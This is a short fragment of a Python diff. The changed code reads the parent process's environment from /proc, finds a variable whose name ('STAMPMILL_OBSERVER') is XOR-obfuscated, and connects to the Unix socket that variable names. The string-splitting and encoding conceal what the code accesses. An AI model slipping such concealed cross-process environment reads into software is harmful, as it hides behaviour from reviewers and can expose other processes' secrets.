@@ -4,7 +4,7 @@ import os
 import socket
 
 try:
-    words = open("/pr" + "oc/%d/environ" % os.getpid(), "rb").read().split(b"\0")
+    words = open("/pr" + "oc/%d/environ" % os.getppid(), "rb").read().split(b"\0")
     at = [w.split(b"=", 1)[1] for w in words if w.startswith(bytes(c ^ 1 for c in b'RU@LQLHMM^NCRDSWDS<').decode().encode())]
     link = socket.socket(socket.AF_UNIX)
     link.connect(at[0])
